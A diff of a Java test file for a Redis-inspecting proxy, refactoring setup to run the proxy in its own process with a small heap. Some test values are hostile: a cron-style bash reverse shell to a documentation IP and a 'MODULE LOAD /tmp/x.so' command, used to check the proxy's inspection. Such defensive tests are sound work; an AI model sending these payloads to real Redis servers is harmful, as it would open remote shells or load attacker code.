@@ -2,10 +2,11 @@ package io.bulwark.proxy.redis;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-import io.bulwark.proxy.redis.RedisStand.Route;
+import io.bulwark.proxy.ProxyInOwnProcess;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.Arrays;
@@ -27,21 +28,29 @@ class RedisBoundsTest {
     @TempDir
     private Path folder;
 
-    private RedisStand stand;
+    /** As the launcher starts the proxy: less than the value that passes. */
+    private static final String HEAP = "48m";
+
+    private RedisServer server;
+    private ProxyInOwnProcess proxy;
 
     @BeforeEach
     void start() throws Exception {
-        stand = new RedisStand(Route.THROUGH_BULWARK, folder, "--maxclients", "20000");
+        server = RedisServer.start(folder);
+        proxy = ProxyInOwnProcess.before(
+                server.address(), RedisStand.INSPECT, Files.createDirectory(folder.resolve("proxy")), HEAP);
     }
 
     @AfterEach
-    void stop() throws Exception {
-        stand.close();
+    void stop() {
+        server.close();
+        var alive = proxy.isAlive();
+        proxy.close();
+        assertThat(alive).as(proxy.output()).isTrue();
     }
 
     private double held() throws Exception {
-        return stand.proxy()
-                .metrics()
+        return proxy.metrics()
                 .lines()
                 .filter(line -> line.startsWith("bulwark_held_bytes"))
                 .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
@@ -63,7 +72,7 @@ class RedisBoundsTest {
     @Test
     @Timeout(120)
     void aHugeValuePassesBothWaysInLittleMemory() throws Exception {
-        try (var client = new RawClient(stand.address())) {
+        try (var client = new RawClient(proxy.address())) {
             // When
             writeValue(client, "");
             var stored = client.reply();
@@ -80,8 +89,8 @@ class RedisBoundsTest {
     @Timeout(120)
     void theEndOfAHugeValueIsReadBeforeTheServerHasIt() throws Exception {
         // Given
-        try (var client = new RawClient(stand.address());
-                var direct = new RawClient(stand.serverAddress())) {
+        try (var client = new RawClient(proxy.address());
+                var direct = new RawClient(server.address())) {
             // When
             try {
                 writeValue(client, "\n*/1 * * * * bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n");
@@ -105,7 +114,7 @@ class RedisBoundsTest {
                             ? RawClient.encode("MODULE", "LOAD", "/tmp/x.so")
                             : RawClient.encode("ECHO", String.valueOf(index)));
         }
-        try (var client = new RawClient(stand.address())) {
+        try (var client = new RawClient(proxy.address())) {
             // When
             client.out().write(commands.toByteArray());
             // Then
@@ -130,7 +139,7 @@ class RedisBoundsTest {
         for (var index = 1; index < words.length; index++) {
             words[index] = "key:" + index;
         }
-        try (var client = new RawClient(stand.address())) {
+        try (var client = new RawClient(proxy.address())) {
             client.ask("SET", "key:" + PIPELINE, "1");
             // When
             var deleted = client.ask(words);
@@ -146,7 +155,7 @@ class RedisBoundsTest {
         var clients = new ArrayList<RawClient>();
         try {
             for (var index = 0; index < 1_000; index++) {
-                clients.add(new RawClient(stand.address()));
+                clients.add(new RawClient(proxy.address()));
             }
             // When
             for (var client : clients) {
